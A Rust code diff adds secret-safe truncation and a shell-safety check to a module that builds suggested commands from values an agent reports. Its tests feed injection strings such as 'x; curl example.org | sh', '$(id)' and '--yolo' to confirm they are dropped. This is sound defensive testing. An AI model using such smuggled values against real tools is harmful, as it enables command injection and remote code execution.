@@ -6,7 +6,7 @@ use std::collections::BTreeMap;
 use std::path::Path;
 
 use super::texts::{self, Text, Todo};
-use super::{Code, Guidance, Step};
+use super::{Code, Guidance, Step, clean};
 use crate::adapters::Spec;
 use crate::redact::redact;
 
@@ -75,7 +75,7 @@ impl Params {
 /// The guidance with this code and text.
 pub(crate) fn guidance(code: Code, key: &str, params: Params, evidence: Vec<String>, secrets: &[String]) -> Guidance {
     // Masked before it is cut: half a secret is known by nothing.
-    let masked = |(name, value): (String, String)| (name, bounded(&redact(&value, secrets), PARAM_LIMIT));
+    let masked = |(name, value): (String, String)| (name, bounded(&redact(within(&value), secrets), PARAM_LIMIT));
     let params = Params { values: params.values.into_iter().map(masked).collect() };
     let text = texts::find(key);
     let mut message = sentence(fill(text.message, &params));
@@ -87,10 +87,20 @@ pub(crate) fn guidance(code: Code, key: &str, params: Params, evidence: Vec<Stri
         title: sentence(fill(text.title, &params)),
         message,
         steps: steps(text, &params),
-        evidence: evidence.iter().take(LINES).map(|line| bounded(&redact(line, secrets), LINE_LIMIT)).collect(),
+        evidence: evidence.iter().take(LINES).map(|line| bounded(&redact(within(line), secrets), LINE_LIMIT)).collect(),
         key: text.key.to_owned(),
         params: params.values,
     }
+}
+
+/// As much of `text` as is looked at, without a word that would be cut: half a secret is known by nothing.
+fn within(text: &str) -> &str {
+    if text.len() <= clean::LIMIT {
+        return text;
+    }
+    let head = &text[..clean::floor(text, clean::LIMIT)];
+    // Of one endless word half, as no key is as long as the other half.
+    &head[..head.rfind(char::is_whitespace).unwrap_or(clean::floor(head, head.len() / 2))]
 }
 
 /// A text as it begins a sentence. An app without a name is "the app"; a name is written as it is, "iA Writer" too.
@@ -102,6 +112,8 @@ fn sentence(text: Option<String>) -> String {
 /// The steps of which every parameter is known.
 fn steps(text: &Text, params: &Params) -> Vec<Step> {
     let step = |todo: &Todo| match todo {
+        // What an agent said is not put into a command unless every shell takes it as one word.
+        Todo::Run(command) if command.contains("{model}") && !params.get("model").is_some_and(is_word) => None,
         Todo::Run(command) => fill(command, params).map(|command| Step::Run { command }),
         Todo::Open(url) => fill(url, params).map(|url| Step::Open { url }),
         Todo::Set(variable) => fill(variable, params).map(|variable| Step::Set { variable }),
@@ -109,6 +121,11 @@ fn steps(text: &Text, params: &Params) -> Vec<Step> {
         Todo::Choose(words) => fill(words, params).map(|text| Step::Choose { text }),
     };
     text.steps.iter().filter_map(step).collect()
+}
+
+/// Whether a shell takes it as it stands, and not as an option.
+fn is_word(text: &str) -> bool {
+    !text.starts_with('-') && text.chars().all(|c| c.is_ascii_alphanumeric() || "._:/@-".contains(c))
 }
 
 /// A template with its parameters. `None` where one outside brackets is unknown and has no default.
@@ -156,6 +173,27 @@ mod tests {
         assert_eq!(fill("x {a}[ and {b}][ or {a}] {c|none}", &params).as_deref(), Some("x A or A none"));
         assert_eq!(fill("{b}", &params), None);
         assert_eq!(fill("open {a", &params).as_deref(), Some("open {a"));
+    }
+
+    #[test]
+    fn what_an_agent_said_never_becomes_a_part_of_a_command() {
+        let commands = |model: &str| {
+            let params = Params::default().with("program_name", "copilot").with("model", model);
+            let steps = guidance(Code::ModelUnavailable, "model_disabled", params, Vec::new(), &[]).steps;
+            steps.iter().filter(|step| matches!(step, Step::Run { .. })).cloned().collect::<Vec<_>>()
+        };
+        assert_eq!(commands("gpt-5.1"), [Step::Run { command: String::from("copilot --model gpt-5.1") }]);
+        for model in ["x; curl example.org | sh", "$(id)", "`id`", "a b", "--yolo", "x&y", "x\ny", "é"] {
+            assert_eq!(commands(model), [], "{model}");
+        }
+    }
+
+    #[test]
+    fn no_more_than_a_bounded_part_of_a_value_is_looked_at_and_no_word_is_cut() {
+        assert_eq!(within("short"), "short");
+        let words = "word ".repeat(clean::LIMIT);
+        assert!(within(&words).len() <= clean::LIMIT && within(&words).ends_with("word"));
+        assert_eq!(within(&"é".repeat(clean::LIMIT)).len(), clean::LIMIT / 2);
     }
 
     #[test]
